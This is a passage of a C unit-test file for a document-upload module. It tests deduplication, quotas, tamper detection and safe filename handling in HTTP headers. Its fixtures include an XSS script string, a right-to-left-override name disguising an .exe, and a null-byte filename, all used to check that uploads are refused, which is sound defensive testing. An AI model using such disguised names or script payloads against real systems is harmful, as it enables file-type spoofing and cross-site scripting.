	assert_int_equal(evidence_add(f->st, f->files, &f->who, 11, nm, sizeof nm - 1, p.p, p.n,
				      f->a, &row, &existed, &why),
			 TP_OK);
	assert_int_equal(existed, 0);
	assert_true(row.id > 0);
	assert_string_equal(row.name, "学位证书.pdf");
	assert_string_equal(row.content_type, "application/pdf");
	assert_int_equal(row.size, (int64_t)p.n);
	assert_int_equal(row.uploaded_by, 7);
	assert_true(row.uploaded_at > 1700000000);
	/* the same bytes again, under another name: the first row, nothing written */
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 11, "x.pdf", 5, p.p, p.n, f->a,
				      &again, &existed, &why),
			 TP_OK);
	assert_int_equal(existed, 1);
	assert_int_equal(again.id, row.id);
	/* the same bytes on another application: a row of its own, still one blob */
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 12, NULL, 0, p.p, p.n, f->a,
				      &other, &existed, &why),
			 TP_OK);
	assert_int_equal(existed, 0);
	assert_true(other.id != row.id);
	assert_string_equal(other.name, "file.pdf");
	assert_string_equal(other.sha256, row.sha256);
	assert_int_equal(count_files(f->files, ""), 1);
	/* a PNG named like a PDF keeps its real type */
	struct app_file img;
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 11, "id-card.pdf", 11, g.p, g.n,
				      f->a, &img, &existed, &why),
			 TP_OK);
	assert_string_equal(img.content_type, "image/png");
	assert_string_equal(img.name, "id-card.pdf.png");
	assert_int_equal(audit_count(f, "application_file.upload", "ok"), 3);

	struct app_file *items;
	size_t n;
	int64_t total;
	assert_int_equal(evidence_list(f->st, 11, f->a, &items, &n, &total), TP_OK);
	assert_int_equal(n, 2);
	assert_int_equal(items[0].id, row.id);
	assert_int_equal(items[1].id, img.id);
	assert_int_equal(total, (int64_t)(p.n + g.n));

	/* another application's file id is not found through this one */
	struct app_file got;
	assert_int_equal(evidence_get(f->st, 11, other.id, f->a, &got), TP_ERR_NOT_FOUND);
	void *data;
	size_t len;
	assert_int_equal(evidence_download(f->st, f->files, &f->who, 11, img.id, f->a, &got, &data,
					   &len),
			 TP_OK);
	assert_int_equal(len, g.n);
	assert_memory_equal(data, g.p, len);
	free(data);
	assert_int_equal(audit_count(f, "application_file.download", "ok"), 1);

	/* delete: gone from the list and from get; a second delete is not found */
	assert_int_equal(evidence_delete(f->st, &f->who, 11, row.id), TP_OK);
	assert_int_equal(evidence_delete(f->st, &f->who, 11, row.id), TP_ERR_NOT_FOUND);
	assert_int_equal(evidence_delete(f->st, &f->who, 11, other.id), TP_ERR_NOT_FOUND);
	assert_int_equal(evidence_get(f->st, 11, row.id, f->a, &got), TP_ERR_NOT_FOUND);
	assert_int_equal(evidence_download(f->st, f->files, &f->who, 11, row.id, f->a, &got, &data,
					   &len),
			 TP_ERR_NOT_FOUND);
	assert_int_equal(evidence_list(f->st, 11, f->a, &items, &n, &total), TP_OK);
	assert_int_equal(n, 1);
	assert_int_equal(total, (int64_t)g.n);
	assert_int_equal(audit_count(f, "application_file.delete", "ok"), 1);
	/* the blob stays (application 12 still refers to it); uploading again makes a new row */
	assert_int_equal(count_files(f->files, ""), 2);
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 11, "a.pdf", 5, p.p, p.n, f->a,
				      &again, &existed, &why),
			 TP_OK);
	assert_int_equal(existed, 0);
	assert_true(again.id > img.id);
	/* the whole chain still verifies */
	int64_t checked, bad_id;
	char whyv[300];
	assert_int_equal(audit_verify(f->st, &checked, &bad_id, whyv, sizeof whyv), TP_OK);
	free(p.p), free(g.p);
}

static void refused_uploads_write_nothing(void **state)
{
	struct fx *f = *state;
	struct app_file row;
	struct evidence_refusal why;
	int existed;
	const char html[] = "<html><script>alert(1)</script></html>";
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 5, "cv.pdf", 6, html, strlen(html),
				      f->a, &row, &existed, &why),
			 TP_ERR_INVALID);
	assert_string_equal(why.code, "html");
	struct buf p = pdf_ok();
	const char bidi[] = "photo\xe2\x80\xaegpj.exe";
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 5, bidi, sizeof bidi - 1, p.p, p.n,
				      f->a, &row, &existed, &why),
			 TP_ERR_INVALID);
	assert_string_equal(why.code, "name_bidi");
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 5, "e.pdf", 5, "", 0, f->a, &row,
				      &existed, &why),
			 TP_ERR_INVALID);
	assert_string_equal(why.code, "empty");
	assert_int_equal(count_files(f->files, ""), 0);
	struct app_file *items;
	size_t n;
	int64_t total;
	assert_int_equal(evidence_list(f->st, 5, f->a, &items, &n, &total), TP_OK);
	assert_int_equal(n, 0);
	assert_int_equal(audit_count(f, "application_file.upload", NULL), 0);
	free(p.p);
}

static void the_application_total_is_enforced(void **state)
{
	struct fx *f = *state;
	struct app_file row;
	struct evidence_refusal why;
	int existed;
	/* five different files of exactly 10 MB fill an application's 50 MB */
	for (int i = 0; i < 5; i++) {
		struct buf b = pdf_sized((size_t)EVIDENCE_FILE_MAX, i);
		assert_int_equal(evidence_add(f->st, f->files, &f->who, 21, "big.pdf", 7, b.p, b.n,
					      f->a, &row, &existed, &why),
				 TP_OK);
		free(b.p);
	}
	/* one more byte's worth does not fit; another application is not affected */
	struct buf p = pdf_ok();
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 21, "small.pdf", 9, p.p, p.n, f->a,
				      &row, &existed, &why),
			 TP_ERR_INVALID);
	assert_string_equal(why.code, "application_full");
	assert_non_null(strstr(why.en, "52428800"));
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 22, "small.pdf", 9, p.p, p.n, f->a,
				      &row, &existed, &why),
			 TP_OK);
	/* deleting a file frees its share */
	struct app_file *items;
	size_t n;
	int64_t total;
	assert_int_equal(evidence_list(f->st, 21, f->a, &items, &n, &total), TP_OK);
	assert_int_equal(n, 5);
	assert_int_equal(total, 50LL * MB);
	assert_int_equal(evidence_delete(f->st, &f->who, 21, items[0].id), TP_OK);
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 21, "small.pdf", 9, p.p, p.n, f->a,
				      &row, &existed, &why),
			 TP_OK);
	/* a file of 10 MB + 1 is refused before anything is written */
	size_t big = (size_t)EVIDENCE_FILE_MAX + 1;
	unsigned char *b = calloc(1, big);
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 23, "x.pdf", 5, b, big, f->a, &row,
				      &existed, &why),
			 TP_ERR_INVALID);
	assert_string_equal(why.code, "too_large");
	assert_int_equal(count_files(f->files, ".tmp-"), 0);
	free(b), free(p.p);
}

static void a_tampered_blob_is_not_served(void **state)
{
	struct fx *f = *state;
	struct app_file row, got;
	struct evidence_refusal why;
	int existed;
	struct buf j = jpeg_ok();
	assert_int_equal(evidence_add(f->st, f->files, &f->who, 31, "me.jpg", 6, j.p, j.n, f->a,
				      &row, &existed, &why),
			 TP_OK);
	char path[1200];
	assert_int_equal(evidence_blob_path(f->files, row.sha256, path, sizeof path), 0);
	chmod(path, 0600);
	FILE *fp = fopen(path, "wb");
	assert_non_null(fp);
	fputs("<html><script>alert(1)</script></html>", fp); /* swapped for something else */
	fclose(fp);
	void *data = (void *)1;
	size_t len = 1;
	assert_int_equal(evidence_download(f->st, f->files, &f->who, 31, row.id, f->a, &got, &data,
					   &len),
			 TP_ERR_CONFLICT);
	assert_null(data);
	assert_int_equal(len, 0);
	assert_int_equal(audit_count(f, "application_file.download", "failed"), 1);
	/* a blob that vanished is an I/O problem, not "no such file" */
	unlink(path);
	assert_int_equal(evidence_download(f->st, f->files, &f->who, 31, row.id, f->a, &got, &data,
					   &len),
			 TP_ERR_IO);
	free(j.p);
}

/* ---- the HTTP helpers: where the name comes from, how it goes out ---- */

static const char *pick(const char *q, const char *x, const char *cd, struct arena *a,
			size_t *len)
{
	const char *name = (const char *)1;
	int r = api_files_pick_name(q, q ? strlen(q) : 0, x, cd, a, &name, len);
	return r == 0 ? name : "<malformed>";
}

static void names_from_the_request(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	size_t n;
	/* the query wins, then X-File-Name, then Content-Disposition */
	assert_string_equal(pick("q.pdf", "x.pdf", "attachment; filename=c.pdf", a, &n), "q.pdf");
	assert_string_equal(pick(NULL, "x%20y.pdf", "attachment; filename=c.pdf", a, &n),
			    "x y.pdf");
	assert_string_equal(pick(NULL, "%E5%AD%A6%E4%BD%8D.pdf", NULL, a, &n), "学位.pdf");
	assert_null(pick(NULL, NULL, NULL, a, &n));
	/* Content-Disposition: filename* (RFC 8187) over filename; quoted-pairs; tokens */
	assert_string_equal(pick(NULL, NULL,
				 "form-data; name=\"f\"; filename=\"fallback.pdf\"; "
				 "filename*=UTF-8''%E8%AF%81%E4%B9%A6.pdf",
				 a, &n),
			    "证书.pdf");
	assert_string_equal(pick(NULL, NULL, "attachment; filename*=utf-8'zh'a%2Fb.pdf", a, &n),
			    "a/b.pdf"); /* decoded; evidence_clean_name then keeps "b.pdf" */
	assert_string_equal(pick(NULL, NULL, "attachment; filename=\"a \\\"q\\\"; b.pdf\"", a, &n),
			    "a \"q\"; b.pdf");
	assert_string_equal(pick(NULL, NULL, "attachment; filename = plain.pdf ", a, &n),
			    "plain.pdf");
	/* a %00 is kept with its length, for the cleaner to refuse */
	const char *nul = pick(NULL, "a.pdf%00.exe", NULL, a, &n);
	assert_int_equal(n, 10);
	assert_memory_equal(nul, "a.pdf\0.exe", 10);
	/* malformed */
	assert_string_equal(pick(NULL, "bad%zz.pdf", NULL, a, &n), "<malformed>");
	assert_string_equal(pick(NULL, "trailing%4", NULL, a, &n), "<malformed>");
	assert_string_equal(pick(NULL, NULL, "attachment; filename*=ISO-8859-1''%E9.pdf", a, &n),
			    "<malformed>");
	assert_string_equal(pick(NULL, NULL, "attachment; filename=\"open.pdf", a, &n),
			    "<malformed>");
	arena_free(a);
}

static void download_disposition(void **state)
{
	(void)state;
	struct arena *a = arena_new();
	assert_string_equal(api_files_disposition(a, "scan.pdf"),
			    "attachment; filename=\"scan.pdf\"; filename*=UTF-8''scan.pdf");
	/* non-ASCII: "_" per character in the fallback, percent-encoded UTF-8 in filename* */
	assert_string_equal(api_files_disposition(a, "学位 证书.pdf"),
			    "attachment; filename=\"__ __.pdf\"; "
			    "filename*=UTF-8''%E5%AD%A6%E4%BD%8D%20%E8%AF%81%E4%B9%A6.pdf");
	/* quotes, backslashes, semicolons and percent signs cannot break out of the header */
	assert_string_equal(api_files_disposition(a, "a\"b\\c;d%e.pdf"),
			    "attachment; filename=\"a_b_c;d_e.pdf\"; "
			    "filename*=UTF-8''a%22b%5Cc%3Bd%25e.pdf");
	arena_free(a);
}

int main(void)
{
	if (sodium_init() < 0)
		return 1;
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(valid_files_are_accepted),
		cmocka_unit_test(executables_are_refused_whatever_the_name),
		cmocka_unit_test(markup_is_refused),
		cmocka_unit_test(other_formats_are_named),
		cmocka_unit_test(size_limits),
		cmocka_unit_test(damaged_and_disguised_pdfs),
		cmocka_unit_test(damaged_and_disguised_jpegs),
		cmocka_unit_test(damaged_and_disguised_pngs),
		cmocka_unit_test(names_are_cleaned),
		cmocka_unit_test(hostile_names_are_refused),
		cmocka_unit_test(names_from_the_request),
		cmocka_unit_test(download_disposition),
		cmocka_unit_test_setup_teardown(blobs_are_content_addressed_and_stored_once, setup,
						teardown),
		cmocka_unit_test_setup_teardown(reading_refuses_bad_hashes_and_tampered_blobs, setup,
						teardown),
		cmocka_unit_test_setup_teardown(no_temporary_files_are_left_behind, setup, teardown),
		cmocka_unit_test_setup_teardown(the_files_directory, setup, teardown),
		cmocka_unit_test_setup_teardown(upload_list_download_delete, setup, teardown),
		cmocka_unit_test_setup_teardown(refused_uploads_write_nothing, setup, teardown),
		cmocka_unit_test_setup_teardown(the_application_total_is_enforced, setup, teardown),
		cmocka_unit_test_setup_teardown(a_tampered_blob_is_not_served, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
